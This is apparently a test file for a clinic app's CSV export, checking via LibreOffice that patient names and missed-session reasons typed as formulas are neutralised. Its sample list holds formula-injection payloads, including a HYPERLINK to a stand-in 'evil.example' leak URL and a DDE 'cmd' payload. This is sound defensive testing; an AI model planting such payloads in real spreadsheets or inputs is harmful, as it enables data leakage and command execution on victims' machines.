import { execFile } from 'node:child_process'
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { CSV_FORMS, type ExportFile } from '../../electron/clinic/contract'
import { enrollment, tempClinic, type TempClinic } from './factories'

/*
 * Formula injection: names and reasons typed as formulas are exported so that
 * a spreadsheet runs none of them. Checked with LibreOffice Calc itself, told
 * to evaluate formulas when it reads a CSV: each export is opened and saved
 * again as CSV (values, not formulas), and opened, saved as .xlsx, and that
 * opened and saved as CSV. A control file with the same texts unneutralised
 * goes through the same steps and comes back evaluated (=1+1 as 2), so the
 * check can fail. (Without the neutralisation in electron/clinic/exports/csv.ts
 * the names come back as 2 and "click": checked once by making `cell` write
 * strings unchanged.)
 */

const run = promisify(execFile)

/** What an attacker (or an unlucky paste) puts into names and free text. */
const FORMULAS = ['=1+1', '=HYPERLINK("http://evil.example/?leak","click")', '+SUM(1,2)', '@SUM(1,2)', '-2+3', "=cmd|' /C calc'!A0"]

/** CSV read with formulas evaluated (token 13), UTF-8 (76), comma and double quote. */
const READ_CSV_EVALUATING = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true'
/** CSV written with the cells' values (token 9 "as shown", token 10 formulas off). */
const WRITE_CSV_VALUES = 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true,false'

let clinic: TempClinic
const folder = mkdtempSync(join(tmpdir(), 'backstride-formulas-'))
const profile = `file://${join(folder, 'lo-profile')}`

async function soffice(args: string[]) {
  await run('soffice', [`-env:UserInstallation=${profile}`, '--headless', '--norestore', ...args], { timeout: 120_000 })
}

const parseCsv = (text: string) => parse(text, { bom: true }) as string[][]
const readCsv = (file: string) => parseCsv(readFileSync(file, 'utf8'))

beforeAll(async () => {
  clinic = await tempClinic()
  for (const [i, formula] of FORMULAS.entries()) {
    const base = enrollment()
    const { enrollmentId } = await clinic.value<{ enrollmentId: number }>('patients/enroll', {
      ...base,
      patient: { ...base.patient, firstName: formula, lastName: `Runner ${i}`, dateOfBirth: `198${i}-05-14` },
    })
    await clinic.value('sessions/record', { enrollmentId, sessionDate: '2026-03-03', attended: false, missedReason: formula })
  }
})
afterAll(() => {
  clinic.close()
  rmSync(folder, { recursive: true, force: true })
})

describe('CSV exports and formula injection', () => {
  it('start no text cell with =, +, -, @, tab or carriage return in any export; numbers stay numbers', async () => {
    for (const form of CSV_FORMS) {
      const file = await clinic.value<ExportFile>('exports/csv', { form })
      const cells = parseCsv(file.content).flat()
      const risky = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell))
      expect(risky, form).toEqual([])
    }
  })

  it('are read by LibreOffice as text: no formula evaluated, in CSV and after saving as .xlsx', async () => {
    const input = join(folder, 'in')
    mkdirSync(input)
    for (const form of ['patients', 'sessions'] as const) {
      writeFileSync(join(input, `${form}.csv`), (await clinic.value<ExportFile>('exports/csv', { form })).content)
    }
    // The control: the same texts as a naive export would write them.
    writeFileSync(join(input, 'control.csv'), stringify([['text'], ...FORMULAS.map((f) => [f])], { record_delimiter: 'windows' }))
    const files = ['patients', 'sessions', 'control'].map((name) => join(input, `${name}.csv`))

    await soffice(['--infilter=' + READ_CSV_EVALUATING, '--convert-to', WRITE_CSV_VALUES, '--outdir', join(folder, 'csv'), ...files])
    await soffice(['--infilter=' + READ_CSV_EVALUATING, '--convert-to', 'xlsx', '--outdir', join(folder, 'xlsx'), ...files])
    const workbooks = ['patients', 'sessions', 'control'].map((name) => join(folder, 'xlsx', `${name}.xlsx`))
    await soffice(['--convert-to', WRITE_CSV_VALUES, '--outdir', join(folder, 'xlsx-csv'), ...workbooks])

    for (const via of ['csv', 'xlsx-csv']) {
      const control = readCsv(join(folder, via, 'control.csv')).slice(1).map((row) => row[0])
      // LibreOffice did evaluate formulas on this path: =1+1 became 2, the link its label.
      expect(control[0], via).toBe('2')
      expect(control[1], via).toBe('click')

      const patients = readCsv(join(folder, via, 'patients.csv'))
      const [header, ...rows] = patients
      const firstNames = rows.map((row) => row[header.indexOf('first_name')])
      expect(firstNames, via).toEqual(FORMULAS.map((f) => `'${f}`))
      expect(rows.map((row) => row[header.indexOf('phone')]), via).toEqual(FORMULAS.map(() => "'+49 30 1234567"))

      const [sessionHeader, ...sessions] = readCsv(join(folder, via, 'sessions.csv'))
      expect(sessions.map((row) => row[sessionHeader.indexOf('missed_reason')]).sort(), via).toEqual(FORMULAS.map((f) => `'${f}`).sort())
    }
  }, 180_000)
})
